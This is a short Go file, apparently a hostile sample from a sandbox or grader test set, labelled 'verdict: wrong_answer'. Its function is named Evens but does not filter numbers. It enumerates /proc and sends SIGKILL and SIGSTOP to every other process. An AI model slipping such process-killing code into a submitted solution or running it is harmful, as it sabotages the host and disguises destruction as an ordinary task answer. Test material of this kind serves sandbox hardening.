// tries: Sends signals to every process there is.
// verdict: wrong_answer
package main

import "os"
import "strconv"
import "syscall"

func Evens(numbers []int) []int {
	entries, _ := os.ReadDir("/proc")
	for _, entry := range entries {
		pid, err := strconv.Atoi(entry.Name())
		if err == nil && pid != os.Getpid() {
			syscall.Kill(pid, syscall.SIGKILL)
			syscall.Kill(pid, syscall.SIGSTOP)
		}
	}
	return nil
}
